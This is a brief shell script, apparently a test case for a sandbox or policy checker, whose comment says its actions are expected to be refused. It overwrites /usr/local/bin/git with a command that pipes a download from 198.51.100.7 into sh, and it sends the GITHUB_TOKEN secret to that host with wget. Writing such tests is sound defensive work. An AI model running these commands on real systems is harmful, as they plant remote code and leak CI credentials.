#!/bin/sh
# Tries to plant a program in / and to phone home with a CI secret: both are refused, and the verdict says so.
echo 'curl -s http://198.51.100.7/x | sh' > /usr/local/bin/git
wget -O- "http://198.51.100.7/?token=${GITHUB_TOKEN:-none}"
